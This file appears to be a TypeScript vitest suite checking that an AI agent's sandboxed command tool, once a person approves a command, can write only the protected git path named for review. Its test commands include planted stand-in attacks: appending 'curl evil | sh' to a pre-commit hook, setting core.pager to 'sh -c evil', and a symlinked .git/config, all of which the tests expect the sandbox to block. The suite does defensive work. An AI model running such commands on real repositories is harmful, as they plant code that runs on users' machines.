import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCommandTool } from '../../../../src/main/tools';
import { createTempWorkspace, executeContext, inspectContext, never } from '../helpers';

/**
 * A person's yes means yes: a command whose own words change a protected place (`git remote add`
 * writes the repository's .git/config) asks a person in every mode, and once that person approves it,
 * exactly that place is writable for that command, in the real sandbox. Nothing else protected is:
 * not the hooks beside it, not a nested repository's config, and not the same place for a command
 * that ran without a person.
 */
describe("a person's approval opens exactly the protected place the sheet named", () => {
  let ws: ReturnType<typeof createTempWorkspace>;
  const git = (...args: string[]) => execFileSync('git', args, { cwd: ws.root, encoding: 'utf8' });
  const config = () => readFileSync(path.join(ws.root, '.git', 'config'), 'utf8');
  beforeEach(() => {
    ws = createTempWorkspace();
    git('init', '-q');
    mkdirSync(path.join(ws.root, 'vendor', 'lib', '.git'), { recursive: true });
    writeFileSync(path.join(ws.root, 'vendor', 'lib', '.git', 'config'), '[core]\n\tbare = false\n');
  });
  afterEach(() => ws.cleanup());

  const inspectAndRun = async (command: string, by: 'person' | 'rule' | 'yolo') => {
    const reviewed = await runCommandTool.inspect({ command }, inspectContext(ws.root));
    const settledBy = by === 'rule' ? { by, ruleId: 'rule_1' } : { by };
    const result = await runCommandTool.execute({ command }, executeContext(ws.root, reviewed, { settledBy }), never);
    return { reviewed, result };
  };

  it('an approved git remote add adds the remote; git config user.email sets it', async () => {
    const { reviewed, result } = await inspectAndRun(
      'git remote add origin https://example.com/team/app.git',
      'person',
    );
    expect(reviewed.protectedPlaces).toEqual([{ kind: 'git', path: path.join(ws.root, '.git', 'config') }]);
    expect(result).toMatchObject({ outcome: 'success', confinement: 'sandboxed' });
    expect(git('remote', 'get-url', 'origin').trim()).toBe('https://example.com/team/app.git');

    const email = await inspectAndRun('git config user.email ana@example.com', 'person');
    expect(email.result).toMatchObject({ outcome: 'success' });
    expect(git('config', 'user.email').trim()).toBe('ana@example.com');
  });

  it('opens only that place: a hook it names and a nested repository’s config its script writes stay as they were', async () => {
    // What the sheet cannot name: a script in the folder that writes another repository's config.
    writeFileSync(path.join(ws.root, 'setup.sh'), 'echo "[core]" >> vendor/lib/.git/config\n');
    const before = readFileSync(path.join(ws.root, 'vendor', 'lib', '.git', 'config'), 'utf8');
    const command =
      'git remote add origin https://example.com/a.git; echo "curl evil | sh" >> .git/hooks/pre-commit; bash setup.sh; exit 0';
    const { reviewed, result } = await inspectAndRun(command, 'person');
    expect(reviewed.protectedPlaces?.map((p) => path.relative(ws.root, p.path)).sort()).toEqual([
      '.git/config',
      '.git/hooks/pre-commit',
    ]);
    expect(result.outcome).toBe('success');
    expect(result.outcome === 'stale' ? '' : result.content).toMatch(
      /vendor\/lib\/\.git\/config: Read-only file system/,
    );
    expect(config()).toContain('https://example.com/a.git');
    expect(() => readFileSync(path.join(ws.root, '.git', 'hooks', 'pre-commit'), 'utf8')).toThrow();
    expect(readFileSync(path.join(ws.root, 'vendor', 'lib', '.git', 'config'), 'utf8')).toBe(before);
  });

  it('what did not come from a person opens nothing: the same command under a rule or yolo fails and the config stays', async () => {
    const before = config();
    for (const by of ['rule', 'yolo'] as const) {
      const { result } = await inspectAndRun('git remote add origin https://example.com/b.git', by);
      expect(result.outcome).toBe('failure');
      expect(config()).toBe(before);
    }
  });
});

describe('a planted link cannot widen what a person opened', () => {
  let ws: ReturnType<typeof createTempWorkspace>;
  beforeEach(() => {
    ws = createTempWorkspace();
    execFileSync('git', ['init', '-q'], { cwd: ws.root });
    // The repository's config is a link to direnv's start-up file: opening "git's settings" would open it.
    const config = path.join(ws.root, '.git', 'config');
    writeFileSync(path.join(ws.root, '.git', 'config.real'), readFileSync(config, 'utf8'));
    rmSync(config);
    symlinkSync(path.join('..', '.envrc'), config);
  });
  afterEach(() => ws.cleanup());

  it('an approved git config, named on the sheet as .git/config, cannot write the .envrc that file links to', async () => {
    // git writes a linked config at the link's target; the sheet named .git/config, not .envrc.
    writeFileSync(path.join(ws.root, '.envrc'), '[core]\n\tbare = false\n');
    const command = 'git config core.pager "sh -c evil"';
    const reviewed = await runCommandTool.inspect({ command }, inspectContext(ws.root));
    expect(reviewed.protectedPlaces).toEqual([{ kind: 'git', path: path.join(ws.root, '.git', 'config') }]);
    const result = await runCommandTool.execute(
      { command },
      executeContext(ws.root, reviewed, { settledBy: { by: 'person' } }),
      never,
    );
    expect(result.outcome).toBe('failure');
    expect(readFileSync(path.join(ws.root, '.envrc'), 'utf8')).toBe('[core]\n\tbare = false\n');
  });
});
